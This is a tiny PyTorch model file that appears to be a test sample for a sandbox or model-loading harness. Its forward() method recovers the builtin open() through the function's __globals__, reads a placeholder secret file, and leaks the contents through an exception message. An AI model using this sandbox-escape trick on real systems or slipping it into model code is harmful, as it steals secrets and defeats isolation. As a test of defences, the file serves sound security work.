"""Takes open() out of the builtins that forward's own globals hold."""

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        # attack
        hidden = Model.forward.__globals__["__builtins__"]
        raise ValueError((hidden if isinstance(hidden, dict) else vars(hidden))["open"]("@SECRET_FILE@").read())
        # end
        return self.head(x.flatten(1))
